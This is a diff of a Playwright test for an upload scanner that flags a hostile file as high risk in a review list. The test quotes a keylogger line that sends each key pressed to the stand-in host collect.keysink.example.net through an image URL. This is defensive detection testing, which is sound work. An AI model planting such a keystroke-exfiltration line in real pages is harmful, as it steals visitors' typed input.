@@ -37,7 +37,9 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
     .getByRole('row')
     .filter({ has: page.getByRole('link', { name, exact: true }) })
     .locator('.content-check-badge');
-  await expect(badge).toHaveText('高风险1');
+  // The static finding, and once the render has run, what the visitor saw the keylogger send
+  // (keys pressed outside any field: runtime.canary-hidden), so one or more high findings.
+  await expect(badge).toHaveText(/^高风险[1-9]\d*$/);
 
   // Filtered to high risk, only the keylogger stays.
   await page.getByRole('combobox', { name: '风险等级' }).click();
@@ -51,8 +53,11 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
   const finding =
     '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入';
   await expect(page.locator('.check-findings').getByText(finding)).toBeVisible();
-  // The level's reason names the same finding, above the table.
-  await expect(page.locator('.check-reason')).toContainText(`判为高风险，几乎可以肯定有恶意：${finding}`);
+  // The level's reason names a high finding on the same host, above the table: the static one, or
+  // once the render has run, what the visitor saw leave (keys sent one by one).
+  await expect(page.locator('.check-reason')).toContainText(
+    /^判为高风险，几乎可以肯定有恶意：.*collect\.keysink\.example\.net/,
+  );
   // The excerpt is in the table; the location opens the file with that line marked.
   const line3 =
     'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });';
